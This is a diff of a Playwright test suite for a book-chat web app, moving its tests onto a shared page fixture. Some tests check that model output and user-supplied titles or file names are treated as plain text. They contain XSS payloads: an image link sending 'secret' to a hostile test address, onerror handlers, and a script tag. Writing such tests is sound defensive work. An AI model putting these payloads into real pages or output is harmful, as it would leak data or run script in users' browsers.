@@ -88,11 +88,8 @@ def with_book(page: Page, text: str = "A book") -> None:
     clean_page(page)
 
 
-def test_text_of_a_model_fetches_nothing_and_runs_nothing(
-    scripted: Server, open_page: Open, evil: tuple[str, list[str]]
-) -> None:
+def test_text_of_a_model_fetches_nothing_and_runs_nothing(page: Page, evil: tuple[str, list[str]]) -> None:
     address, visits = evil
-    page = open_page(scripted)
     with_book(page)
     hostile = (
         f"See ![chart]({address}/a.png?q=secret) <img src={address}/b.png onerror=window.hit=1> "
@@ -141,8 +138,7 @@ def test_the_policy_holds_even_if_text_got_through(
     page.close()
 
 
-def test_a_title_and_a_file_name_are_only_words(scripted: Server, open_page: Open) -> None:
-    page = open_page(scripted)
+def test_a_title_and_a_file_name_are_only_words(page: Page) -> None:
     give_text(page, "A <img src=x onerror=window.hit=1> title", "<b>n</b><script>window.hit=1</script>.txt")
     page.wait_for_selector('#trifold[data-stage="ready"]')
     until(page, lambda: "<img" in page.inner_text("#book-title"))
@@ -212,8 +208,7 @@ def test_an_answer_whose_tab_was_closed_goes_on_in_another_which_can_stop_it(scr
     assert "stopped" in first.locator("#chat .under").last.inner_text()
 
 
-def test_a_failure_is_a_sentence_with_the_button_that_mends_it(scripted: Server, open_page: Open) -> None:
-    page = open_page(scripted)
+def test_a_failure_is_a_sentence_with_the_button_that_mends_it(page: Page) -> None:
     with_book(page)
     ask(page, "First, a good one")
     answered(page)
@@ -368,8 +363,7 @@ def test_a_file_chosen_before_the_scripts_have_come_is_taken(scripted: Server, o
     has_read(page, text.encode())
 
 
-def test_nothing_jumps_while_an_answer_streams(scripted: Server, open_page: Open) -> None:
-    page = open_page(scripted)
+def test_nothing_jumps_while_an_answer_streams(page: Page) -> None:
     with_book(page)
     ask(page, "A long question")
     writing(page)
@@ -429,8 +423,7 @@ def test_what_the_model_says_of_its_sampling_is_used_until_the_person_chooses(
     assert "hierarchical, temperature None, at most 512 tokens" in last_answer(page)
 
 
-def test_an_answer_that_ran_in_a_loop_says_so_and_can_go_on(scripted: Server, open_page: Open) -> None:
-    page = open_page(scripted)
+def test_an_answer_that_ran_in_a_loop_says_so_and_can_go_on(page: Page) -> None:
     read_text(page, "Words of a lamplighter who goes round and round")
     clean_page(page)
     ask(page, "Is this a loop?")
@@ -440,8 +433,7 @@ def test_an_answer_that_ran_in_a_loop_says_so_and_can_go_on(scripted: Server, op
     until(page, lambda: "It goes round and round and round and round and at last it ended." in last_answer(page), 10.0)
 
 
-def test_a_new_chat_waits_for_the_end_of_the_answer(scripted: Server, open_page: Open) -> None:
-    page = open_page(scripted)
+def test_a_new_chat_waits_for_the_end_of_the_answer(page: Page) -> None:
     with_book(page)
     ask(page, "A long question")
     writing(page)
